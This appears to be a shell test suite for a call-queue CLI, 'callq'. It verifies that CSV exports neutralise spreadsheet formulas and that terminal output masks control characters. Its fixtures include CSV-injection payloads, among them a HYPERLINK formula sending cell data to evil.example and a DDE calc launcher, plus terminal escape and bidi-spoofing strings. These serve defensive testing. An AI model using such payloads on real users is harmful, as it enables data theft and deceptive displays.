#!/bin/sh
# Output is data, never commands: every CSV is safe to open in a
# spreadsheet, a rejects file imports back as it was, free text holding
# controls is refused with one sentence, and controls that an older
# database or a provider's reply holds never reach a terminal raw.
. "$(dirname "$0")/../lib.sh"
export CALLQ_NOW=$daytime LANG=C.UTF-8
unset LC_ALL
export XDG_CONFIG_HOME=$scratch/xdg

floor_db out
cq() { "$bin" --db "$db" "$@"; }
cq init >/dev/null
cq region add East --country US >/dev/null

# --- Exports are safe to open in a spreadsheet -------------------------

n=100
for name in '=HYPERLINK("http://evil.example/?"&A1,"Click")' \
    "+cmd|' /C calc'!A0" '@SUM(A1)' '-2+3' 'Tab' 'Street'; do
	n=$((n + 1))
	cq lead add --name "$name" --phone "+1 212-736-0$n" --region East \
	    >/dev/null
done
# Controls for the tests' own SQL, written raw into its string literals,
# which both drivers read (SQLite's char() is not PostgreSQL's chr()).
tab=$(printf '\t')
cr=$(printf '\r.')
cr=${cr%.}
esc=$(printf '\033')
bel=$(printf '\007')
csi=$(printf '\302\233')	# U+009B, C1 CSI
rlo=$(printf '\342\200\256')	# U+202E, right-to-left override
pdi=$(printf '\342\201\251')	# U+2069, pop directional isolate
# Values only an older database holds, as the input refuses them now.
"$sq" "$db" "UPDATE leads SET name = '$tab' || 'Tab first'
    WHERE phone_e164 = '+12127360105';
    UPDATE leads SET street = '$cr' || 'CR first'
    WHERE phone_e164 = '+12127360106'"
cq lead list --format csv >"$scratch/leads.csv"
cq lead list --format json >"$scratch/leads.json"
has() { grep -qF -- "$2" "$1"; }	# $1 file, $2 text
ok "a formula in a name is written with a ' before it" has \
    "$scratch/leads.csv" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"
guarded() {
	has "$scratch/leads.csv" "'+cmd|' /C calc'!A0," &&
	    has "$scratch/leads.csv" "'@SUM(A1)," &&
	    has "$scratch/leads.csv" "'-2+3,"
}
ok "... and so is +cmd, @SUM and -2+3" guarded
ok "a phone's display form is no number: it gets the ' too" \
    has "$scratch/leads.csv" ",'+1 212-736-0102,+12127360102,"
ok "a number stays as it is" has "$scratch/leads.csv" ",+12127360103,"
ok "a value starting with a tab is guarded inside its quotes" \
    grep -qP "^\\d+,\"'\\tTab first\"," "$scratch/leads.csv"
id2=$(grep -F '"+12127360106"' "$scratch/leads.json" |
    sed 's/.*"id": \([0-9]*\).*/\1/')
cq lead show "$id2" --format csv >"$scratch/show.csv"
ok "... and one starting with a carriage return" \
    grep -qP "^street,\"'\\rCR first\"" "$scratch/show.csv"
exact() {
	has "$scratch/leads.json" \
	    '"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"' &&
	    has "$scratch/leads.json" "\"name\": \"+cmd|' /C calc'!A0\"" &&
	    has "$scratch/leads.json" '"name": "\tTab first"'
}
ok "JSON stays exact" exact

cq dnc add "+1 212 736 0199" --reason '@evil' >/dev/null
cq choice add source '=cmd' >/dev/null
cq user add cqx --name '+SUM(1)' --role rep >/dev/null
cq stage add '=1+1' >/dev/null
lists() {
	cq dnc list --format csv | grep -qF ",'@evil," &&
	    cq choice list source --format csv | grep -qF ",'=cmd," &&
	    cq user list --format csv | grep -qF ",'+SUM(1)," &&
	    cq stage list --format csv | grep -qF ",'=1+1,"
}
ok "every list's CSV is guarded: dnc, choices, users, stages" lists
cq lead list --format csv --output "$scratch/export.csv"
ok "--output writes the same guarded CSV" cmp -s "$scratch/export.csv" \
    "$scratch/leads.csv"

# The rejects file: what a spreadsheet would run is guarded, and fixing
# the phones and importing it again gives each name back as it was. A
# field guarded already (by callq, or a spreadsheet's export) reads
# without its '.
{
	printf 'Name,Formatted phone number,Country\r\n'
	printf '"=HYPERLINK(""http://evil.example"")",+1 555 0101,US\r\n'
	printf '@SUM(A1),+1 555 0102,US\r\n'
	printf '%s,+1 555 0103,US\r\n' "'=quoted already"
	printf -- '-2+3,+1 555 0104,US\r\n'
} >"$scratch/hostile.csv"
cq import "$scratch/hostile.csv" --region East >/dev/null 2>&1
rej=$scratch/hostile.rejects.csv
rejects_guarded() {
	has "$rej" "\"'=HYPERLINK(\"\"http://evil.example\"\")\",'+1 555 0101," &&
	    has "$rej" "'@SUM(A1),'+1 555 0102," &&
	    has "$rej" "'=quoted already,'+1 555 0103," &&
	    has "$rej" "'-2+3,'+1 555 0104,"
}
ok "the rejects file guards the names a spreadsheet would run" \
    rejects_guarded
sed 's/+1 555 01/+1 646 736 01/' "$rej" >"$scratch/fixed.csv"
cq import "$scratch/fixed.csv" --region East >/dev/null 2>&1
cq lead list --format json >"$scratch/fixed.json"
round_trip() {
	has "$scratch/fixed.json" \
	    '"name": "=HYPERLINK(\"http://evil.example\")"' &&
	    has "$scratch/fixed.json" '"name": "@SUM(A1)"' &&
	    has "$scratch/fixed.json" '"name": "=quoted already"' &&
	    has "$scratch/fixed.json" '"name": "-2+3"'
}
ok "... and imports back as it was" round_trip
printf "Phone\r\n'+1 212 736 0150\r\n" >"$scratch/dnc.csv"
cq dnc import "$scratch/dnc.csv" >/dev/null 2>&1
ok "dnc import reads a guarded number" sh -c \
    "'$bin' --db '$db' dnc list --format csv | grep -q '^+12127360150,'"

# --- Nothing reaches a terminal raw ------------------------------------

esc=$(printf '\033')
bel=$(printf '\007')
csi=$(printf '\302\233')	# U+009B, a C1 control
rlo=$(printf '\342\200\256')	# U+202E, right-to-left override
tab=$(printf '\t')
audit_count() { "$sq" "$db" "SELECT count(*) FROM audit"; }
# No control a terminal acts on (line ends aside) in file $1.
clean() {
	! LC_ALL=C grep -qP '[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$1"
}

cq user add rep1 --role rep --phone +14155550151 --region East >/dev/null
cq lead add --name "Victim Deli" --phone "+1 212 736 0300" --region East \
    --owner rep1 >/dev/null
cq lead add --name "Never Called" --phone "+1 212 736 0302" --region East \
    --owner rep1 >/dev/null
vid=$(cq lead list --search Victim --format csv | sed -n 2p | cut -d, -f1)
cq --as rep1 followup add "$vid" "tomorrow 16:00" >/dev/null
fid=$(cq --as rep1 followup list --format csv | sed -n 2p | cut -d, -f1)

# refuses WHAT CMD...: status 65, one sentence naming WHAT and the
# character, masked itself, and no audit row.
refuses() {
	field=$1
	shift
	before=$(audit_count)
	"$@" >/dev/null 2>"$scratch/err"
	rc=$?
	[ "$rc" -eq 65 ] && clean "$scratch/err" &&
	    grep -q "^callq: $field holds a [a-z ]*, U+[0-9A-F]\{4\}.*, at character [0-9]*; give plain text without it$" "$scratch/err" &&
	    [ "$(wc -l <"$scratch/err")" -eq 1 ] &&
	    [ "$(audit_count)" -eq "$before" ]
}
ok "log --note with ESC is refused, naming the note" refuses "the note" \
    cq --as rep1 log "$vid" --disposition Busy --note "hi$esc[31m"
ok "... in one sentence that says what, where and what to do" grep -qxF \
    "callq: the note holds a control character, U+001B (escape), at character 3; give plain text without it" \
    "$scratch/err"
ok "followup add --note with BEL" refuses "the follow-up's note" \
    cq --as rep1 followup add "$vid" "tomorrow 17:00" --note "x$bel"
ok "followup done --outcome with a line break" refuses "the outcome" \
    cq --as rep1 followup done "$fid" --outcome "met
them"
ok "stage add with ESC" refuses "the stage name" cq stage add "Demo$esc[5m"
ok "stage rename with a tab" refuses "the new stage name" \
    cq stage rename Prospect "Pro${tab}spect"
ok "choice add with BEL" refuses "the name" cq choice add pause "Nap$bel"
ok "choice rename with a C1 control" refuses "the new name" \
    cq choice rename pause Lunch "Lunch$csi"
ok "user add --team with ESC" refuses "the team name" \
    cq user add rep9 --role rep --team "T$esc"
ok "user add --name with a bidi override" refuses "the user's name" \
    cq user add rep9 --role rep --name "Ann$rlo"
ok "user edit --team with a tab" refuses "the team name" \
    cq user edit rep1 --team "A${tab}B"
ok "lead edit refuses a C1 control in a field" refuses "--name" \
    cq lead edit "$vid" --name "V${csi}2J"
ok "lead add refuses a bidi override in a field" refuses "--street" \
    cq lead add --name Ok --phone "+1 212 736 0301" --street "Main${rlo}"
ok "note add with a bidi override" refuses "the note" \
    cq note add "$vid" "gpj${rlo}exe"
ok "dnc add --reason with BEL" refuses "the reason" \
    cq dnc add "+1 212 736 0177" --reason "no$bel"
ok "lead restore --reason with ESC" refuses "the reason" \
    cq lead restore "$vid" --reason "x$esc"
ok "setting set with ESC" refuses "the value of lease_minutes" \
    cq setting set lease_minutes "15$esc"
ok "region add with ESC" refuses "the region name" cq region add "West$esc"
cq user add rep9 --role rep --extension "1$esc[31m" 2>"$scratch/err"
ok "an extension with ESC is refused, the sentence masked" \
    grep -qF "callq: '1?[31m' is not an extension" "$scratch/err"

# An older database: raw ESC, BEL, C1 and bidi in what callq prints.
cq --as rep1 log "$vid" --disposition Busy --note fine >/dev/null
"$sq" "$db" "
    UPDATE leads SET name = 'Evil' || '$esc' || '[2J' || '$bel' ||
        '$csi' || 'x' || '$rlo' || 'gnp.exe'
        WHERE name IN ('Victim Deli', 'Never Called');
    INSERT INTO notes (lead_id, user_id, body, created_at) VALUES
        ($vid, 1, 'note' || '$esc' || ']0;owned' || '$bel', $daytime);
    UPDATE calls SET note = 'ok' || '$esc' || '[31m' || '$rlo'
        WHERE lead_id = $vid;
    UPDATE users SET name = 'Rep' || '$csi' || 'One' WHERE login = 'rep1';
    INSERT INTO settings (key, value)
        VALUES ('work_hours', '09:00' || '$esc' || '[8m')
        ON CONFLICT (key) DO UPDATE SET value = excluded.value;
    UPDATE audit SET details = '{\"note\":\"a\\u001b[5m' ||
        '$pdi' || '\"}' WHERE id = (SELECT max(id) FROM audit)"
cq lead list >"$scratch/o.list"
cq lead show "$vid" >"$scratch/o.show"
cq timeline "$vid" >"$scratch/o.timeline"
cq audit list --limit 3 >"$scratch/o.audit"
cq user list >"$scratch/o.users"
cq setting get work_hours >"$scratch/o.setting"
cq lead stage "$vid" "x$esc[31m$rlo" 2>"$scratch/o.error"
ok "lead list: the name's controls show as ?" sh -c "
    grep -qF 'Evil?[2J??x?gnp.exe' '$scratch/o.list'"
for f in list show timeline audit users setting error; do
	ok "no raw control reaches the terminal: $f" clean "$scratch/o.$f"
done
ok "timeline and audit show the text, masked" sh -c "
    grep -qF 'ok?[31m?' '$scratch/o.timeline' &&
    grep -qF 'note: a?[5m?' '$scratch/o.audit' &&
    grep -qF 'Rep?One' '$scratch/o.users'"
ok "an error sentence masks what it quotes" \
    grep -qF "no stage 'x?[31m?'" "$scratch/o.error"
cq lead list --search 0300 --format json >"$scratch/o.json"
ok "JSON stays exact: every control escaped, none raw" sh -c "
    grep -qF 'Evil\\u001b[2J\\u0007\\u009bx\\u202egnp.exe' '$scratch/o.json'" &&
    clean "$scratch/o.json"
cq lead list --search 0300 --format csv >"$scratch/o.csv"
ok "CSV to a file stays exact" grep -qF "Evil$esc[2J$bel${csi}x${rlo}gnp.exe" \
    "$scratch/o.csv"
script -qec "'$bin' --db '$db' lead list --search 0300 --format csv" \
    /dev/null >"$scratch/o.tty"
ok "CSV to a terminal shows the controls as ?" sh -c "
    grep -qF 'Evil?[2J??x?gnp.exe' '$scratch/o.tty'" && clean "$scratch/o.tty"

# A provider's reply: its JSON can spell any control.
cat >"$scratch/prov.py" <<'EOP'
import json, sys
from http.server import BaseHTTPRequestHandler, HTTPServer
PORT_FILE, MODE_FILE = sys.argv[1:3]
class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *args):
        pass
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        bad = open(MODE_FILE).read().strip() == "400"
        doc = ({"code": 21211, "message": "bad\u001b]0;owned\u0007 number"}
               if bad else {"sid": "CA\u009b31m\u202e", "status": "queued\u001b[0m"})
        data = json.dumps(doc).encode()
        self.send_response(400 if bad else 201)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
server = HTTPServer(("127.0.0.1", 0), Handler)
with open(PORT_FILE + ".tmp", "w") as f:
    f.write(str(server.server_address[1]))
import os
os.rename(PORT_FILE + ".tmp", PORT_FILE)
server.serve_forever()
EOP
echo ok >"$scratch/mode"
python3 "$scratch/prov.py" "$scratch/port" "$scratch/mode" &
prov=$!
eventually "[ -s '$scratch/port' ]" || echo "# the provider did not start"
cat >"$scratch/dial.conf" <<EOC
[dial]
provider = twilio
timeout_ms = 60000
[twilio]
account_sid = ACtest
auth_token = secret-token
caller_id = +14155550100
base_url = http://127.0.0.1:$(cat "$scratch/port")
EOC
chmod 600 "$scratch/dial.conf"
dial() { "$bin" --db "$db" --as rep1 --config "$scratch/dial.conf" call "$vid"; }
dial >"$scratch/o.dial" 2>&1
cq --as rep1 log "$vid" --disposition Busy >/dev/null
echo 400 >"$scratch/mode"
dial >"$scratch/o.refused" 2>&1
ok "callq call: the provider's call id and state, masked" sh -c "
    grep -qF 'via twilio: CA?31m?, queued?[0m' '$scratch/o.dial'" &&
    clean "$scratch/o.dial"
ok "... and its refusal" grep -qF "twilio refused the call: bad?]0;owned? number" \
    "$scratch/o.refused"
ok "no raw control reaches the terminal: the refusal" clean "$scratch/o.refused"
cq timeline "$vid" --format csv >"$scratch/o.calls"
ok "the call records hold the reply masked" sh -c "
    grep -qF 'via twilio CA?31m?' '$scratch/o.calls' &&
    grep -qF 'bad?]0;owned? number' '$scratch/o.calls'"

# The screen: what the database holds, typed text and the dial line.
echo ok >"$scratch/mode"
tm new-session -d -s s -x 120 -y 30 \
    "env TERM=screen '$bin' --db '$db' --as rep1 --config '$scratch/dial.conf'; sleep 600"
ok "the queue shows the name's controls as ?" wait_for s "Evil\?\[2J\?\?x\?gnp\.exe"
tm send-keys -t s '#' "$vid" Enter
ok "the lead pane shows its note masked" wait_for s "note\?\]0;owned\?"
screen s >"$scratch/o.screen"
ok "no raw control on the screen" clean "$scratch/o.screen"
tm send-keys -t s e 4
wait_for s "Note:" >/dev/null
tm send-keys -t s -l "gpj${csi}exe"
tm send-keys -t s Enter
ok "a note typed with a C1 control is refused with the sentence" \
    wait_for s "Not saved: the note holds a control character, U\+009B, at character 4"
tm send-keys -t s Escape
tm send-keys -t s c
ok "the dial's status line shows the provider's call id masked" \
    wait_for s "twilio took the call as CA\?31m\?: your phone rings"
screen s >"$scratch/o.dialing"
ok "no raw control on the screen while on the call" clean "$scratch/o.dialing"
kill "$prov"

finish
